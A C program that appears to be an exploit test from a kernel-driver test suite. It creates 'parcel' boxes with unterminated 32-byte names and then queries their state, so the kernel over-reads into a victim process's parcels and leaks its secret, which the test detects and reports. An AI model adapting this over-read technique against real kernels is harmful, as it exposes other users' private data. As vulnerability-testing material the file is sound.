// SPDX-License-Identifier: GPL-2.0-only
/*
 * A name of 32 bytes without a NUL. When the state of the box is asked for, the kernel copies the
 * name and does not stop at its end: what lies behind it, a victim's parcels, is copied too.
 */
#define _GNU_SOURCE
#include <string.h>

#include "attack.h"

#define SIZE		PARCEL_NAME_SIZE	/* the victim's parcels are as long as a name */
#define ROUNDS		40
#define NEIGHBOURS	6

/* Its secret, as far as it goes in. */
static long send_secret(struct victim_state *state, int command)
{
	(void)command;
	return parcel_send(state->file, state->box, state->secret, SIZE, NULL, 0);
}

int main(int argc, char **argv)
{
	struct parcel_create create = { .rights = RIGHTS_ALL };
	struct parcel_stat stat;
	struct victim victim;
	char secret[SECRET_SIZE];
	int file, i, j;
	long result;
	char *found;

	attack_begin(argc, argv);
	victim_start(&victim, send_secret);
	victim_secret(&victim, secret);
	file = device_open();

	for (i = 0; i < ROUNDS; i++) {
		for (j = 0; j < NEIGHBOURS; j++)
			must("let the victim send", victim_do(&victim, 0));
		memset(create.name, 'a' + i % 26, sizeof(create.name));
		create.name[0] = 'a' + i / 26;
		result = device_call(file, PARCEL_IOC_CREATE, &create);
		if (result < 0)
			refused("%s", error_name(result));
		must("ask for the state", parcel_stat(file, create.handle, &stat));
		found = memmem(&stat, sizeof(stat), secret, SIZE);
		if (found)
			achieved("leaks", "another's parcel behind the name of my box: \"%.*s\"",
				 SIZE, found);
	}
	if (memchr(stat.name, 0, sizeof(stat.name)))
		refused("the name was cut, and ends");
	achieved("leaks", "what lies behind the names of my boxes, nobody's parcel");
}
